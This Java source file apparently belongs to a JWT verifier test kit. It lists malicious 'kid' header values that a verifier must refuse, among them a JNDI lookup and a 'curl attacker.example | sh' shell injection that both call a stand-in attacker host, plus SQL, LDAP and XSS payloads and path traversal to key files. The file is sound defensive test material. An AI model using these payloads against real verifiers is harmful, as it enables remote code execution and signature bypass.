package io.bailiwick.testkit.corpus;

import static io.bailiwick.testkit.corpus.Cases.BAD_SIGNATURE;
import static io.bailiwick.testkit.corpus.Cases.MALFORMED;
import static io.bailiwick.testkit.corpus.Cases.UNKNOWN_KEY;

import io.bailiwick.testkit.AttackCase.Level;
import java.util.LinkedHashMap;
import java.util.Map;

/** A key named so that another one, or something else, is found. */
final class KeyIdAttacks {
  private KeyIdAttacks() {}

  static void add(Cases cases) {
    names(cases.family("key-id", Level.JWT, "RFC 8725, 3.10"));
  }

  private static void names(Cases.Family names) {
    Map<String, String> unknown = new LinkedHashMap<>();
    unknown.put("unknown", "no-such-key");
    unknown.put("case", "RS256");
    unknown.put("leading-space", " rs256");
    unknown.put("trailing-space", "rs256 ");
    unknown.put("line-feed", "rs256\n");
    unknown.put("null-byte", "rs256\0");
    unknown.put("null-byte-path", "rs256\0/../mallory");
    unknown.put("full-width", "rs\uff12\uff15\uff16");
    unknown.put("right-to-left", "\u202ers256");
    unknown.put("star", "*");
    unknown.put("percent", "%");
    unknown.put("prototype", "__proto__");
    unknown.put("template", "${jndi:ldap://attacker.example/a}");
    unknown.put("format", "{0} %s %n");
    unknown.put("url", "https://attacker.example/jwks.json");
    unknown.put("shell", "rs256; curl attacker.example | sh");
    unknown.put("ldap", "*)(uid=*))(|(uid=*");
    unknown.put("regex", "rs.*");
    unknown.put("mark-up", "<script>alert(1)</script>");
    unknown.put("log-line", "x\r\n2026-11-24 INFO admin logged in");
    unknown.forEach(
        (name, kid) ->
            names.refuse(
                UNKNOWN_KEY,
                "mallory-" + name,
                "signed by an attacker's key under the id " + Json.quote(kid),
                Draft.good().kid(kid).sign(CorpusKey.MALLORY.signer())));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal",
        "HS256 with the empty secret of /dev/null as a key file",
        Draft.good().alg("HS256").kid("../../../../../../dev/null").sign(Signer.hs256("")));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal-known-file",
        "HS256 with a file's well-known content",
        Draft.good()
            .alg("HS256")
            .kid("/proc/sys/kernel/randomize_va_space")
            .sign(Signer.hs256("2")));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal-encoded",
        "the same, percent-encoded",
        Draft.good().alg("HS256").kid("%2e%2e%2f%2e%2e%2fdev%2fnull").sign(Signer.hs256("")));
    names
        .origin("CVE-2021-41106")
        .refuse(
            UNKNOWN_KEY,
            "file-uri",
            "HS256 with the file's name as its secret",
            Draft.good()
                .alg("HS256")
                .kid("file:///keys/rs256.pem")
                .sign(Signer.hs256("file:///keys/rs256.pem")));
    names.refuse(
        UNKNOWN_KEY,
        "sql",
        "HS256 with the secret that an injected query answers",
        Draft.good().alg("HS256").kid("x' UNION SELECT 'key' -- ").sign(Signer.hs256("key")));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-rs256",
        "an attacker's signature under a known id",
        Draft.good().sign(CorpusKey.MALLORY.signer()));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-es256",
        "an attacker's ECDSA signature under a known id",
        Draft.good().of(CorpusKey.ES256).sign(Signer.ecdsa(CorpusKey.EC_MALLORY, "SHA-256")));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-eddsa",
        "an attacker's Ed25519 signature under a known id",
        Draft.good().of(CorpusKey.EDDSA).sign(CorpusKey.ED_MALLORY::sign));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-no-kid",
        "an attacker's signature, no id, one key that fits",
        Draft.good().withoutHeader("kid").sign(CorpusKey.MALLORY.signer()));
    names
        .keys("twins")
        .refuse(
            BAD_SIGNATURE,
            "other-key",
            "signed by another trusted key than the one it names",
            Draft.good().sign(KeySets.SECOND.signer()));
    Cases.Family strict = names.level(Level.STRICT).origin("RFC 7515, 4.1.4");
    strict
        .keys("twins")
        .refuse(
            UNKNOWN_KEY,
            "absent-of-two",
            "no id where two keys would fit",
            Draft.good().withoutHeader("kid").sign());
    strict.refuse(
        UNKNOWN_KEY,
        "well-signed-unknown",
        "an unknown id, signed by the trusted key",
        Draft.good().kid("no-such-key").sign());
    strict.refuse(
        UNKNOWN_KEY,
        "well-signed-case",
        "the id in upper case, signed by the trusted key",
        Draft.good().kid("RS256").sign());
    strict.refuse(MALFORMED, "empty", "an empty id", Draft.good().kid("").sign());
    strict.refuse(
        MALFORMED, "number", "an id that is a number", Draft.good().header("kid", "256").sign());
    strict.refuse(
        MALFORMED, "null", "an id that is null", Draft.good().header("kid", "null").sign());
    strict.refuse(
        MALFORMED, "array", "an id in an array", Draft.good().header("kid", "[\"rs256\"]").sign());
    strict.refuse(
        MALFORMED,
        "object",
        "an id that is an object",
        Draft.good().header("kid", "{\"$ne\":\"\"}").sign());
    strict.refuse(
        MALFORMED, "long", "an id of 257 characters", Draft.good().kid("k".repeat(257)).sign());
    strict.refuse(
        MALFORMED, "huge", "an id of 6000 characters", Draft.good().kid("k".repeat(6000)).sign());
  }
}
